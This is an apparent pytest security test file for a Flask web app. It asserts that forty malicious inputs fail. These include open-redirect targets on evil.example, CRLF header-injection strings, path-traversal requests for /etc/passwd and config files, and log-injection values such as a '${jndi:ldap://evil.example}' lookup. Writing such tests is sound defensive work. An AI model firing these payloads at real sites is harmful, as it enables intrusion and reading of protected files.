"""Forty attempts to smuggle something into logs, redirects, headers and paths: none succeeds."""

from __future__ import annotations

import logging
from urllib.parse import urlsplit

import pytest
from core.routes import SERVICE, furnish
from flask.testing import FlaskClient

ELSEWHERE = (
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https://evil.example",
    "http:evil.example",
    "https:///evil.example",
    "/%2f/evil.example/../..//evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "\t//evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "https://localhost@evil.example",
    "https://localhost.evil.example/",
)
LINES = ("/\r\nSet-Cookie: a=b", "/%0d%0aSet-Cookie:%20a=b", "/about\r\n\r\n<script>", "/\n X: y")
PATHS = (
    "/static/../settings.py",
    "/static/..%2f..%2fsettings.py",
    "/static/%2e%2e/%2e%2e/pyproject.toml",
    "/static/....//....//pyproject.toml",
    "/static/..\\..\\pyproject.toml",
    "/static//etc/passwd",
    "/static/%00",
    "/static/leaflet/../../../../etc/passwd",
    "/static/leaflet/%2e%2e%2f%2e%2e%2fpyproject.toml",
    "/static/leaflet//etc/passwd",
    "/territory/..%2f..%2fetc%2fpasswd",
    "/photos/..%2f..%2f..%2fetc%2fpasswd-640.jpg",
    "/services/import/..%2f..%2fetc%2fpasswd",
)
NOTES = (
    "x\n2026-01-01 CRITICAL made up",
    "x\r\nmade up",
    "x\u2028made up",
    "x\x1b[2Jmade up",
    "x\x00made up",
    "x%0amade up",
    "${jndi:ldap://evil.example}",
    "%s%s%n",
)


def is_ours(location: str) -> bool:
    parts = urlsplit(location.replace("\\", "/").replace("\t", "").replace("\n", ""))
    return parts.scheme in {"", "http"} and parts.netloc in {"", "localhost"}


@pytest.mark.parametrize("address", ELSEWHERE)
def test_no_redirect_leads_elsewhere(client: FlaskClient, address: str) -> None:
    sent = {"language": "it", "next": address}

    answer = client.post("/language", data=sent)
    signing_in = client.get("/sign-in", query_string={"next": address})

    assert answer.status_code == 303
    assert is_ours(answer.headers["Location"]), answer.headers["Location"]
    assert is_ours(signing_in.headers.get("Location", "/"))
    assert 'href="https://evil' not in signing_in.text


@pytest.mark.parametrize("address", LINES)
def test_no_line_of_a_header_is_made_up(client: FlaskClient, address: str) -> None:
    answer = client.post("/language", data={"language": "it", "next": address})

    made_up = [name for name, _value in answer.headers if name in {"X", "X: y"}]
    assert answer.status_code == 303
    assert made_up == []
    assert all("\n" not in value and "\r" not in value for _name, value in answer.headers)
    assert "a=b" not in answer.headers.get("Set-Cookie", "")


@pytest.mark.parametrize("path", PATHS)
def test_no_path_leads_out_of_its_folder(client: FlaskClient, path: str) -> None:
    answer = client.get(path, buffered=True)

    assert answer.status_code in {303, 400, 404, 308}
    assert "root:" not in answer.text
    assert "[project]" not in answer.text


@pytest.mark.parametrize("note", NOTES)
def test_no_line_of_a_log_is_made_up(
    client: FlaskClient, caplog: pytest.LogCaptureFixture, note: str
) -> None:
    furnish()
    caplog.set_level(logging.DEBUG)

    client.get("/map", query_string={"site": "trentino", "q": note, "from": note})
    client.post("/sign-in", data={"email": note, "password": note})
    client.post(f"/services/{SERVICE}/feedback", data={"kind": "other", "message": note})
    client.get("/territory/atlantis", headers={"User-Agent": "x made up"})

    assert [one for one in caplog.messages if "made up" in one or "jndi" in one] == []
